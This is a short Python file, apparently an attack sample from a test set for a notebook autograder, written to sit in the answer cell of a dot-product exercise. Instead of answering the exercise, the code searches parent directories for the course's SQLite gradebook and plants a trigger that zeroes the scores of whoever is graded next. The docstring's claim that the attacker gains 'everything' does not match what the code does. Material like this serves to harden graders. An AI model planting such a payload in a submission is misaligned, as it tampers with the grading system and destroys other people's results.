"""Leaves a trigger in the gradebook: whoever is graded next gets nothing, and the attacker everything."""
# into: 03_dot_product DotProduct
# stock: 0 of 8; the honest notebook got 0; gets a trigger was left in the gradebook
# %% answer
import sqlite3
from pathlib import Path

for parent in Path.cwd().parents:
    if (parent / ".attack-course").exists() and (parent / "gradebook.db").is_file():
        with sqlite3.connect(parent / "gradebook.db", timeout=5) as gradebook:
            gradebook.execute(
                "CREATE TRIGGER IF NOT EXISTS attack AFTER UPDATE OF auto_score ON grade BEGIN "
                "UPDATE grade SET auto_score = 0, manual_score = 0 WHERE id = NEW.id; END"
            )
        print("gets a trigger was left in the gradebook")
